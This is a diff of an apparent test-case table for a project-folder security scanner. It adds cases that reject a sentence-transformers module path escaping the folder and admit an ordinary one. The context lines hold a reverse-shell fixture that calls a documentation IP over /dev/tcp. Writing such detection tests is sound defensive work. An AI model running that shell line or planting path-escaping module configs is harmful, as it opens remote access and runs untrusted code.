@@ -42,6 +42,7 @@ def _case(name: str, technique: str, files: Mapping[str, str], decision: str, *r
     )
 
 
+_MODULES = '[{"idx": 0, "name": "0", "path": "%s", "type": "sentence_transformers.models.Pooling"}]'
 _TOOL, _SHELL = "hub/tool-command", "hub/shell-command"
 CASES: tuple[Case, ...] = (
     _case("git-fsmonitor", "Git runs the file system monitor of the settings in the folder",
@@ -65,6 +66,10 @@ CASES: tuple[Case, ...] = (
           {".vscode/tasks.json": _tasks("folderOpen")}, "reject", _TOOL),
     _case("reverse-shell", "a script that hands a shell to another machine",
           {"run.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n"}, "reject", _SHELL),
+    _case("module-outside", "a module of sentence-transformers that lies outside of the folder",
+          {"modules.json": _MODULES % "../../x"}, "reject", "hub/config-callable"),
+    _case("ordinary-modules", "modules of sentence-transformers in folders of their own",
+          {"modules.json": _MODULES % "1_Pooling"}, "admit"),
     _case("container-command", "a development container that runs a command",
           {".devcontainer/devcontainer.json": '{"postCreateCommand": "echo hello"}'}, "review", _TOOL),
     _case("fetch-and-run", "a script that runs what it fetches",
